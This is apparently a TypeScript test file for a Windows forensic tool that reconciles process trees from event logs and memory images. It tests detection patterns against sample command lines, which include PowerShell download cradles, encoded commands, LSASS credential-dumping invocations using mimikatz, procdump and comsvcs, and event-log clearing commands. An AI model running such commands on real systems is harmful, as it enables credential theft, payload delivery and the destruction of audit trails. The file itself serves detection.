import { DuckDBInstance } from '@duckdb/node-api';
import { describe, expect, it } from 'vitest';
import type { ProcessNode, ProcessSighting } from '../../../shared/processes.ts';
import { findConflicts } from './conflicts.ts';
import { chooseMemoryHost, MEMORY_HOST } from './hosts.ts';
import { CREDENTIAL_DUMP_PATTERN, DOWNLOAD_CRADLE_PATTERN, ENCODED_COMMAND_PATTERN, LOG_CLEARING_PATTERN } from './names.ts';
import { treeOrder } from './nodes.ts';
import { cycleBreaks } from './parents.ts';
import { imageFolderSql, memoryNameMatchesSql, sqlString } from './sql-text.ts';

async function evaluate(sql: string): Promise<unknown> {
  const instance = await DuckDBInstance.create(':memory:');
  const connection = await instance.connect();
  try {
    const reader = await connection.runAndReadAll(`SELECT ${sql}`);
    return reader.getRows()[0]![0];
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}

describe('command-line patterns', () => {
  const encoded: [string, boolean][] = [
    ['powershell.exe -NoP -enc SQBFAFgAIAAoAE4A', true],
    ['powershell -e SQBFAFgAIAAoAE4A==', true],
    ['powershell -ec SQBFAFgAIAAoAE4A', true],
    ['powershell -EncodedCommand SQBFAFgAIAAoAE4A', true],
    ['pwsh /enco SQBFAFgAIAAoAE4A', true],
    ['powershell \u2013enc SQBFAFgAIAAoAE4A', true],
    ['powershell -ExecutionPolicy Bypass -File run.ps1', false],
    ['powershell -ep bypass -Command Get-Date', false],
    ['powershell -enc', false],
  ];
  for (const [commandLine, expected] of encoded) {
    it(`encoded command: ${commandLine}`, async () => {
      expect(await evaluate(`regexp_matches(${sqlString(commandLine)}, ${sqlString(ENCODED_COMMAND_PATTERN)})`)).toBe(expected);
    });
  }

  const cradles: [string, boolean][] = [
    ["powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", true],
    ['powershell iwr http://203.0.113.7/a -OutFile a.exe', true],
    ['powershell Invoke-WebRequest -Uri https://example.org/x', true],
    ['powershell Start-BitsTransfer -Source http://203.0.113.7/a -Destination a.exe', true],
    ['powershell iex "https://203.0.113.7/a"', true],
    ['powershell Get-ChildItem C:\\Users', false],
    ['cmd.exe /c copy a b', false],
  ];
  for (const [commandLine, expected] of cradles) {
    it(`download cradle: ${commandLine}`, async () => {
      expect(await evaluate(`regexp_matches(${sqlString(commandLine)}, ${sqlString(DOWNLOAD_CRADLE_PATTERN)})`)).toBe(expected);
    });
  }
});

describe('credential dumping and log clearing patterns', () => {
  const dumps: [string, boolean][] = [
    ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 900 C:\\Temp\\l.dmp full', true],
    ['rundll32 comsvcs.dll #24 900 out.dmp full', true],
    ['procdump64.exe -accepteula -ma lsass.exe lsass.dmp', true],
    ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', true],
    ['powershell Get-Process lsass | Out-Minidump -DumpFilePath C:\\Temp', true],
    ['procdump.exe -ma w3wp.exe w3wp.dmp', false],
    ['rundll32.exe shell32.dll,Control_RunDLL', false],
  ];
  for (const [commandLine, expected] of dumps) {
    it(`credential dump: ${commandLine}`, async () => {
      expect(await evaluate(`regexp_matches(${sqlString(commandLine)}, ${sqlString(CREDENTIAL_DUMP_PATTERN)})`)).toBe(expected);
    });
  }

  const clears: [string, boolean][] = [
    ['wevtutil.exe cl Security', true],
    ['wevtutil clear-log System', true],
    ['powershell Clear-EventLog -LogName Security', true],
    ['fsutil usn deletejournal /d C:', true],
    ['wevtutil qe Security /c:5', false],
    ['wevtutil.exe gl Security', false],
  ];
  for (const [commandLine, expected] of clears) {
    it(`log clearing: ${commandLine}`, async () => {
      expect(await evaluate(`regexp_matches(${sqlString(commandLine)}, ${sqlString(LOG_CLEARING_PATTERN)})`)).toBe(expected);
    });
  }
});

describe('name and path expressions', () => {
  it('memory names match cut names by prefix only at 14-15 characters', async () => {
    expect(await evaluate(memoryNameMatchesSql(sqlString('RuntimeBroker.'), sqlString('RuntimeBroker.exe')))).toBe(true);
    expect(await evaluate(memoryNameMatchesSql(sqlString('SppExtComObj.E'), sqlString('SppExtComObj.Exe')))).toBe(true);
    expect(await evaluate(memoryNameMatchesSql(sqlString('Microsoft.Photo'), sqlString('Microsoft.Photos.exe')))).toBe(true);
    expect(await evaluate(memoryNameMatchesSql(sqlString('CMD.EXE'), sqlString('cmd.exe')))).toBe(true);
    expect(await evaluate(memoryNameMatchesSql(sqlString('cmd.ex'), sqlString('cmd.exe')))).toBe(false);
    expect(await evaluate(memoryNameMatchesSql(sqlString('RuntimeBroker.'), sqlString('RuntimeBrokerX.exe')))).toBe(false);
  });

  it('image folders drop drive and NT prefixes', async () => {
    const cases: [string, string][] = [
      ['C:\\Windows\\System32\\svchost.exe', '\\windows\\system32'],
      ['\\SystemRoot\\System32\\smss.exe', '\\windows\\system32'],
      ['\\??\\C:\\Windows\\system32\\csrss.exe', '\\windows\\system32'],
      ['\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe', '\\windows\\system32'],
      ['C:\\Users\\bob\\AppData\\Local\\Temp\\RuntimeBroker.exe', '\\users\\bob\\appdata\\local\\temp'],
    ];
    for (const [image, folder] of cases) expect(await evaluate(imageFolderSql(sqlString(image))), image).toBe(folder);
  });
});

describe('memory host choice', () => {
  it('takes a log host named by the memory host or its first label', () => {
    expect(chooseMemoryHost('wks-01', ['WKS-01.corp.local', 'SRV-02.corp.local'], [])).toBe('WKS-01.corp.local');
    expect(chooseMemoryHost('SRV-02.CORP.LOCAL', ['WKS-01.corp.local', 'SRV-02.corp.local'], [])).toBe('SRV-02.corp.local');
  });

  it('takes the one log host whose processes agree', () => {
    const agreements = [
      { logHost: 'WKS-01.corp.local', processes: 3 },
      { logHost: 'SRV-02.corp.local', processes: 0 },
    ];
    expect(chooseMemoryHost(null, ['WKS-01.corp.local', 'SRV-02.corp.local'], agreements)).toBe('WKS-01.corp.local');
  });

  it('keeps memory apart when no host or several agree', () => {
    expect(chooseMemoryHost(null, ['WKS-01.corp.local'], [])).toBe(MEMORY_HOST);
    const both = [
      { logHost: 'WKS-01.corp.local', processes: 1 },
      { logHost: 'SRV-02.corp.local', processes: 2 },
    ];
    expect(chooseMemoryHost(null, ['WKS-01.corp.local', 'SRV-02.corp.local'], both)).toBe(MEMORY_HOST);
    expect(chooseMemoryHost('lab-image', ['WKS-01.corp.local'], both)).toBe('lab-image');
  });
});

describe('cycle breaks', () => {
  it('cuts the earliest member of each cycle', () => {
    const breaks = cycleBreaks([
      { id: 1, parentId: 2, start: 100n },
      { id: 2, parentId: 1, start: 50n },
      { id: 3, parentId: 4, start: 10n },
      { id: 4, parentId: 5, start: 20n },
      { id: 5, parentId: 3, start: null },
      { id: 6, parentId: 1, start: 200n },
    ]);
    expect(breaks.sort()).toEqual([2, 5]);
  });

  it('leaves chains alone', () => {
    expect(
      cycleBreaks([
        { id: 2, parentId: 1, start: 2n },
        { id: 3, parentId: 2, start: 3n },
      ]),
    ).toEqual([]);
  });
});

function node(id: number, parentId: number | null, start: string | null): ProcessNode {
  return {
    id,
    host: 'h',
    parentId,
    pid: id,
    ppid: parentId,
    guid: null,
    name: `p${id}.exe`,
    image: null,
    commandLine: null,
    user: null,
    start,
    end: null,
    sources: [],
    flags: [],
    childCount: 0,
  };
}

describe('tree order', () => {
  it('puts parents before children and sorts by start', () => {
    const ordered = treeOrder([
      node(4, 1, '2024-01-01T00:00:04Z'),
      node(1, null, '2024-01-01T00:00:02Z'),
      node(3, 1, '2024-01-01T00:00:03Z'),
      node(2, null, '2024-01-01T00:00:01Z'),
      node(5, null, null),
    ]);
    expect(ordered.map((entry) => entry.id)).toEqual([5, 2, 1, 3, 4]);
  });
});

function sighting(
  source: ProcessSighting['source'],
  start: string | null,
  commandLine: string | null,
  ppid: number | null,
): ProcessSighting {
  return { source, eventId: 1, start, end: null, image: null, commandLine, ppid };
}

describe('source conflicts', () => {
  it('reports starts, command lines and parents that disagree', () => {
    const conflicts = findConflicts([
      sighting('sysmon', '2024-01-01T10:00:00.100000Z', 'cmd.exe /c whoami', 4200),
      sighting('security', '2024-01-01T10:00:01.500000Z', 'cmd.exe  /c whoami', 4300),
      sighting('pslist', '2024-01-01T10:00:00.000000Z', null, 4200),
      sighting('psscan', '2024-01-01T10:00:00.000000Z', null, 4200),
    ]);
    expect(conflicts).toHaveLength(4);
    expect(conflicts[0]).toMatch(
      /^Sysmon records the start at 2024-01-01T10:00:00.100000Z but Security 4688 at 2024-01-01T10:00:01.500000Z$/,
    );
    expect(conflicts[1]).toMatch(/^Security 4688 records the start .* but pslist at 2024-01-01T10:00:00.000000Z$/);
    expect(conflicts.filter((text) => text.includes('4300'))).toHaveLength(2);
  });

  it('accepts a memory time floored to the second of the log start', () => {
    expect(
      findConflicts([
        sighting('sysmon', '2024-01-01T10:00:00.999000Z', 'a', 4),
        sighting('pslist', '2024-01-01T10:00:00.000000Z', null, 4),
      ]),
    ).toEqual([]);
  });
});
